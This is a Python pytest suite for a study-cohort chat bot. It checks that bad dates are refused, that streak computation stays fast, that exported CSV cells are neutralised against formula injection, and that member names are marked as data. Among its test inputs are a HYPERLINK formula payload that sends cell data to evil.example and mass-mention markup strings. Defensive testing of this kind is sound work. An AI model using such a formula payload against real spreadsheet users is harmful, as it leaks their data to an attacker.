"""Hostile or careless dates and text: bounded before storing, harmless once stored, inert in exports.

Issue 12: a start date of 9999-12-31 was stored before the reply failed and then took the scheduler down
at every restart; an excusal dated in year 1 made every streak fold walk 740,000 days; member text became a
live formula in `cohort export`; names and reasons were echoed as markup.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import logging
from collections.abc import Iterator

import pytest

from bot.composition.app import make_core
from bot.jobs.scheduler import StudyScheduler
from bot.kernel.clock import FakeClock
from bot.kernel.types import ConversationRef, Excusal, Reply, UserRef
from bot.kernel.untrusted import CLOSE, OPEN, plain
from bot.rules.streaks import EMPTY, settle, summarize
from storage.sql_store import SqlStore
from tests.bot.jobs.test_scheduler import run_until
from tests.conftest import CHANNEL, Bot, snapshot, text_of
from tests.fakes.clock import drive_apscheduler
from tests.fakes.platform import RecordingPlatform

DAY = dt.timedelta(days=1)
SOMETHING_WENT_WRONG = "Something went wrong"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


async def create_demo(bot: Bot, *members: str) -> None:
    reply = await bot.say("Mia", "cohort create demo time=09:00 tz=UTC days=daily start=2026-11-16")
    assert not reply.error, reply.text
    for name in members:
        assert not (await bot.say(name, "join demo")).error


def field(reply: Reply, name: str) -> str:
    return next(f.value for card in reply.cards for f in card.fields if f.name == name)


# ---- 1. cohort start dates: bounded, validated before storing ----


@pytest.mark.parametrize(
    "line",
    [
        "cohort create far start=9999-12-31 days=sat",
        "cohort create far start=0001-01-01",
        "cohort create far start=2028-01-01",
        "cohort create far start=1026-11-20 days=daily",
    ],
)
async def test_a_cohort_far_from_today_is_refused_with_the_window_and_nothing_is_stored(
    bot: Bot, line: str
) -> None:
    reply = await bot.say("Mia", line)
    assert reply.error and SOMETHING_WENT_WRONG not in reply.text
    assert "within a year of today, from 2025-11-23 to 2027-11-23" in reply.text
    listed = await bot.say("Mia", "cohort list")
    assert "No cohorts yet" in text_of(listed)  # the refused cohort was not committed behind the error
    # The window's own edge is fine: a cohort may be planned a year ahead.
    soon = await bot.say("Mia", "cohort create far start=2027-11-23 days=daily")
    assert not soon.error and field(soon, "Started") == "2027-11-23"


async def test_setting_a_far_start_is_refused_and_the_cohort_and_its_members_are_unaffected(bot: Bot) -> None:
    await create_demo(bot, "Ada")
    for value in ("9999-12-31", "0001-01-01", "2024-11-23"):
        reply = await bot.say("Mia", f"cohort set demo start {value}")
        assert reply.error and SOMETHING_WENT_WRONG not in reply.text
        assert "within a year of today" in reply.text
    paused = await bot.say("Mia", "cohort pause demo")
    assert field(paused, "Started") == "2026-11-16"  # the stored start is still the old one
    await bot.say("Mia", "cohort resume demo")
    today = await bot.say("Ada", "today")
    assert not today.error and SOMETHING_WENT_WRONG not in text_of(today)


async def test_a_start_at_the_calendars_end_already_stored_breaks_no_command_and_no_post(bot: Bot) -> None:
    await create_demo(bot, "Ada")
    [cohort] = await bot.core.store.list_cohorts()
    # A row from before the validation, late in the evening west of UTC: its instant is past datetime.max.
    await bot.core.store.update_cohort(
        cohort.id, start_date=dt.date(9999, 12, 31), timezone="America/New_York"
    )
    await bot.core.store.update_cohort(cohort.id, post_time=dt.time(23, 30))
    for line in ("today", "streak", "done"):
        reply = await bot.say("Ada", line)
        assert SOMETHING_WENT_WRONG not in text_of(reply), (line, text_of(reply))
    card = await bot.say("Mia", "cohort pause demo")
    assert SOMETHING_WENT_WRONG not in text_of(card)
    resumed = await bot.say("Mia", "cohort resume demo")
    assert not resumed.error, resumed.text
    bot.clock.set(dt.datetime(2026, 11, 24, 4, 35, tzinfo=dt.UTC))  # 23:35 in New York
    assert await bot.post() == []  # a cohort that starts in year 9999 has not started
    assert field(resumed, "Next post") == "none (paused)"


async def test_one_bad_cohort_row_is_skipped_and_logged_and_the_others_still_post(
    sqlite_store: SqlStore,
    catalog,  # type: ignore[no-untyped-def]
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    clock = FakeClock(dt.datetime(2026, 11, 23, 8, 0, tzinfo=dt.UTC))
    drive_apscheduler(monkeypatch, clock.now)
    core = make_core(sqlite_store, catalog, clock, rate_limit=False)
    bot = Bot(core, clock, admins={"Mia"})
    rooms = [ConversationRef("console", "ws1", f"room{i}") for i in range(3)]
    for name, room in zip(("overflow", "nowhere", "good"), rooms, strict=True):
        reply = await bot.say("Mia", f"cohort create {name} time=09:00 tz=UTC days=daily", room)
        assert not reply.error, reply.text
    by_name = {c.name: c for c in await core.store.list_cohorts()}
    # Rows as an old version or a hand edit left them, bypassing every check on the way in: a start on the
    # calendar's last day at a time whose instant overflows, and a timezone no tz database knows.
    await core.store.update_cohort(
        by_name["overflow"].id, start_date=dt.date(9999, 12, 31), timezone="America/New_York"
    )
    await core.store.update_cohort(by_name["overflow"].id, post_time=dt.time(23, 30))
    await core.store.update_cohort(by_name["nowhere"].id, timezone="Mars/Olympus_Mons")
    platform = RecordingPlatform()
    sched = StudyScheduler(core, {"console": platform}, sweep_every=dt.timedelta(hours=6))
    with caplog.at_level(logging.ERROR):
        await sched.start()  # used to raise OverflowError: `studybot run` exited 1 for every server
        await run_until(sched, clock, dt.datetime(2026, 11, 25, 10, 0, tzinfo=dt.UTC))
        await sched.stop()
    posted = [conv.channel_id for conv, _ in platform.sent]
    assert posted == ["room2", "room2", "room2"]  # 23, 24 and 25 November, by the good cohort alone
    assert f"could not schedule cohort nowhere (id {by_name['nowhere'].id})" in caplog.text


async def test_a_sweep_posts_for_the_good_cohorts_past_a_bad_row(bot: Bot) -> None:
    for i, name in enumerate(("nowhere", "good")):
        room = ConversationRef("console", "ws1", f"room{i}")
        assert not (await bot.say("Mia", f"cohort create {name} time=09:00 tz=UTC days=daily", room)).error
    bad = next(c for c in await bot.core.store.list_cohorts() if c.name == "nowhere")
    await bot.core.store.update_cohort(bad.id, timezone="Mars/Olympus_Mons")
    bot.clock.set(dt.datetime(2026, 11, 23, 9, 5, tzinfo=dt.UTC))
    posts = await bot.post()
    assert len(posts) == 1 and [c.channel_id for c, _ in bot.platform.sent] == ["room1"]


# ---- 1 and 2. excusals: bounded by the cohort's days, refused before storing ----


@pytest.mark.parametrize(
    ("day", "expected"),
    [
        ("0001-01-01", "before cohort `demo` started (2026-11-16)"),
        ("1026-11-20", "before cohort `demo` started (2026-11-16)"),
        ("2026-11-15", "before cohort `demo` started (2026-11-16)"),
    ],
)
async def test_an_excusal_outside_the_cohorts_past_is_refused_and_nothing_is_stored(
    bot: Bot, day: str, expected: str
) -> None:
    await create_demo(bot, "Ada")
    before = await snapshot(bot.core.store)  # type: ignore[arg-type]
    reply = await bot.say("Mia", f"cohort fix demo ada {day} typo")
    assert reply.error and expected in plain(reply.text), reply.text
    future = await bot.say("Mia", "cohort fix demo ada 9999-12-31 typo")
    assert future.error and "is in the future" in plain(future.text)
    assert await snapshot(bot.core.store) == before  # type: ignore[arg-type]
    early = await bot.say("Mia", "cohort fix demo ada 2026-11-16 first day")
    assert early.error and "is before Ada joined `demo` (2026-11-23)" in plain(early.text)
    assert await snapshot(bot.core.store) == before  # type: ignore[arg-type]
    bot.clock.advance(2 * DAY)
    ok = await bot.say("Mia", "cohort fix demo ada 2026-11-23 first day")
    assert not ok.error and "Excused Mon 23 Nov 2026" in plain(ok.text)


async def test_an_excusal_before_a_rejoin_is_allowed_where_the_member_was_active(bot: Bot) -> None:
    await create_demo(bot, "Ada")
    await bot.say("Ada", "done")  # active on the 23rd
    bot.clock.advance(3 * DAY)
    await bot.say("Ada", "leave demo")
    await bot.say("Ada", "join demo")  # joined again on the 26th
    ok = await bot.say("Mia", "cohort fix demo ada 2026-11-24 flu")
    assert not ok.error and "Excused Tue 24 Nov 2026" in plain(ok.text)
    early = await bot.say("Mia", "cohort fix demo ada 2026-11-22 flu")
    assert early.error and "before Ada joined" in plain(early.text)


class CountingDates(set[dt.date]):
    """A set of dates that counts how often the fold asks about a day: the fold's cost, not a clock."""

    asked = 0

    def __contains__(self, day: object) -> bool:
        CountingDates.asked += 1
        return super().__contains__(day)


@pytest.fixture
def counted() -> Iterator[type[CountingDates]]:
    CountingDates.asked = 0
    yield CountingDates


def test_the_streak_fold_costs_the_history_not_the_calendar_distance(counted: type[CountingDates]) -> None:
    today = dt.date(2026, 11, 23)
    active = counted(today - dt.timedelta(days=i) for i in range(1, 11))
    excused = counted({dt.date(1, 1, 1), dt.date(1026, 11, 20)})
    s = summarize(active, excused, today)
    assert (s.current, s.longest) == (10, 10)
    # The old fold asked once for each of the 739,000 days since year 1.
    assert counted.asked < 100
    state = settle(EMPTY, active, excused, dt.date(2026, 1, 1))
    assert settle(state, active, excused, today - DAY) == settle(EMPTY, active, excused, today - DAY)


async def test_excusals_from_year_one_already_stored_cost_the_streak_fold_nothing(
    bot: Bot, counted: type[CountingDates], monkeypatch: pytest.MonkeyPatch
) -> None:
    await create_demo(bot, "Ada", "Alan")
    bot.clock.set(dt.datetime(2026, 11, 22, 12, 0, tzinfo=dt.UTC))
    await bot.say("Ada", "done")
    bot.clock.set(dt.datetime(2026, 11, 23, 12, 0, tzinfo=dt.UTC))
    await bot.say("Ada", "done")
    [cohort] = await bot.core.store.list_cohorts()
    for m in await bot.core.store.cohort_members(cohort.id):
        for old in (dt.date(1, 1, 1), dt.date(1026, 11, 20)):  # accepted by an older version
            await bot.core.store.add_excusal(Excusal(m.id, cohort.id, old, "typo", "mia", bot.clock.now()))
    assert "Current: 2 days" in text_of(await bot.say("Ada", "streak"))
    # The real store's answers, in sets that count how many days the streak fold looks at.
    cohort_days = bot.core.store.cohort_days

    async def counting_cohort_days(cohort_id: int) -> dict[int, tuple[set[dt.date], set[dt.date]]]:
        days = await cohort_days(cohort_id)
        return {m: (counted(active), counted(excused)) for m, (active, excused) in days.items()}

    monkeypatch.setattr(bot.core.store, "cohort_days", counting_cohort_days)
    export = await bot.say("Mia", "cohort export demo")
    rows = list(csv.DictReader(io.StringIO(export.attachments[0].data.decode())))
    assert [(r["member"], r["current_streak"], r["longest_streak"]) for r in rows] == [
        ("Ada", "2", "2"),
        ("Alan", "0", "0"),
    ]
    # The old fold looked at every day since year 1 for each member: 1.5 million lookups per member.
    assert 0 < counted.asked < 100


# ---- 3. CSV formula injection ----


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode())))


async def test_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(bot: Bot) -> None:
    await create_demo(bot, "+Ada", "-Bo", "@Cy", "=Di")
    bot.clock.set(dt.datetime(2026, 11, 23, 12, 0, tzinfo=dt.UTC))
    payload = '=HYPERLINK("https://evil.example/?x="&A1,"details")'
    assert not (await bot.say("+Ada", f"done {payload}")).error
    assert not (await bot.say("@Cy", "done -2+3")).error
    export = await bot.say("Mia", "cohort export demo")
    members, activity, *_ = export.attachments
    people = list(csv.DictReader(io.StringIO(members.data.decode())))
    assert sorted(r["member"] for r in people) == ["'+Ada", "'-Bo", "'=Di", "'@Cy"]
    ledger = {r["member"]: r["note"] for r in csv.DictReader(io.StringIO(activity.data.decode()))}
    assert ledger["'+Ada"].startswith("'=HYPERLINK(") and "evil.example" in ledger["'+Ada"]
    assert ledger["'@Cy"] == "'-2+3"
    for data in (members.data, activity.data):
        for row in cells(data):
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS), cell
                assert OPEN not in cell and CLOSE not in cell  # names as stored, no reply markup


# ---- 4. member text in replies is marked as data ----


async def raw(bot: Bot, user: UserRef | str, line: str) -> Reply:
    """The core's own Reply, markers included (Bot.say shows what a plain-text platform would)."""
    who = bot.user(user) if isinstance(user, str) else user
    return await bot.core.dispatch(bot.core.invocation(line, who, CHANNEL))


async def test_names_and_reasons_in_moderator_replies_are_marked_verbatim(bot: Bot) -> None:
    await create_demo(bot, "Ada")
    everyone = UserRef("console", "u-evil", "@everyone")
    assert not (await raw(bot, everyone, "join demo")).error
    granted = await raw(bot, "Mia", "cohort grant u-evil")
    assert not granted.error, granted.text
    assert f"{OPEN}@everyone{CLOSE} is now a moderator" in granted.text
    assert f"granted by {OPEN}Mia{CLOSE}" in granted.text
    again = await raw(bot, "Mia", "cohort grant u-evil")
    assert f"{OPEN}@everyone{CLOSE} is already a moderator" in again.text
    revoked = await raw(bot, "Mia", "cohort revoke u-evil")
    assert f"{OPEN}@everyone{CLOSE} is no longer a moderator" in revoked.text
    missing = await raw(bot, "Mia", "cohort revoke u-evil")
    assert missing.error and f"{OPEN}@everyone{CLOSE} has no granted" in missing.text

    reason = "@here [x](https://evil.example)"
    bot.clock.advance(3 * DAY)  # joined on the 23rd: the 24th is a past day of their membership
    fixed = await raw(bot, "Mia", f"cohort fix demo u-evil 2026-11-24 {reason}")
    assert not fixed.error, fixed.text
    assert f"for {OPEN}@everyone{CLOSE}: {OPEN}{reason}{CLOSE} (by {OPEN}Mia{CLOSE})" in fixed.text
    twice = await raw(bot, "Mia", f"cohort fix demo u-evil 2026-11-24 {reason}")
    assert twice.error and f"already excused for {OPEN}@everyone{CLOSE}" in twice.text
    future = await raw(bot, "Mia", "cohort fix demo u-evil 2026-12-20 later")
    assert future.error and f"in the future for {OPEN}@everyone{CLOSE}" in future.text


async def test_a_refused_year_one_date_is_shown_as_typed(bot: Bot) -> None:
    # strftime("%Y") drops a year's leading zeros on Linux: "1-01-01" is not what the moderator typed.
    await create_demo(bot, "Ada")
    start = await bot.say("Mia", "cohort set demo start 0001-01-01")
    assert start.error and plain(start.text).startswith("⚠️ 0001-01-01 can't be a cohort's start")
    fix = await bot.say("Mia", "cohort fix demo ada 0001-01-01 typo")
    assert fix.error and plain(fix.text).startswith("⚠️ 0001-01-01 is before cohort `demo` started")
